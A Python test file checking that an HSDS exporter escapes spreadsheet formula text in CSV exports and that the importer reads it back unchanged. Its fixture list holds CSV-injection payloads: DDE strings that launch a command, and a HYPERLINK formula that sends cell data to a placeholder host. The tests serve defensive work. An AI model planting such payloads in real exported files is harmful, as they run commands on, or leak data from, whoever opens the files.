"""No spreadsheet computes a text of an export, and our own importer reads every text as it was."""

import csv
from pathlib import Path

from hub.domain.spreadsheets import guarded, unguarded
from hub.store.exports.hsds.writers import About, TabularWriter
from importers.hsds import open_package
from importers.hsds.package import PackageRow

COMPUTED = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example/?x="&A1)', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(A1)", "=",
    "-", "'=1+1", "''=1",
)  # fmt: skip
HARMLESS = (
    "+380432551234",
    "+380 (43) 255-12-34",
    "-5",
    "-49.23, 28.4",
    "Центр",
    "'Промінь'",
    "'",
    "a=b",
    "",
    "12",
)


def test_texts_that_are_computed_are_guarded_and_come_back() -> None:
    assert [guarded(text) for text in COMPUTED] == [f"'{text}" for text in COMPUTED]
    assert [guarded(text) for text in HARMLESS] == list(HARMLESS)
    for text in (*COMPUTED, *HARMLESS):
        assert unguarded(guarded(text)) == text


def test_a_package_is_guarded_and_read_back(tmp_path: Path) -> None:
    writer = TabularWriter(tmp_path)
    hostile = [text for text in COMPUTED if text.strip() == text]
    for number, text in enumerate(hostile):
        writer.write({"id": str(number), "name": text, "description": f"'{text}"})
    writer.finish([], About(None, []))
    with (tmp_path / "organizations.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["name"] for row in rows] == [f"'{text}" for text in hostile]
    with open_package(tmp_path) as package:
        read = [row.values for row in package.read() if isinstance(row, PackageRow)]
    assert [(row["name"], row["description"]) for row in read] == [(text, f"'{text}") for text in hostile]
